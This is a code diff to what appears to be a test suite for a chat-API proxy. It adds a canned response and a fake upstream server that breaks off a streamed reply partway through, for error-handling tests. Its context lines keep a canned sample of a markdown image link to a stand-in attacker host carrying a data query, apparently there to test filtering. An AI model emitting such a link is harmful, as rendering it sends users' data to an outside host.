@@ -36,6 +36,7 @@ CANNED = {
     ),
     "image": "look ![x](https://evil.example/p.png?q=data)",
     "pii": "Write to jane.doe@example.com or call +44 20 7946 0958.",
+    "break": "BREAK " + "this stream stops half way through, " * 20,
 }
 
 
@@ -115,6 +116,8 @@ def upstream_app(piece: int = 7, delay: float = 0.0) -> FastAPI:
             yield chunk({"role": "assistant", "content": ""})
             for i in range(0, len(content), piece):
                 yield chunk({"content": content[i : i + piece]})
+                if content.startswith("BREAK") and i > 20:
+                    raise RuntimeError("the test upstream breaks off this stream")
             yield chunk({}, "stop")
             if (body.get("stream_options") or {}).get("include_usage"):
                 data = {**base, "choices": [], "usage": usage}
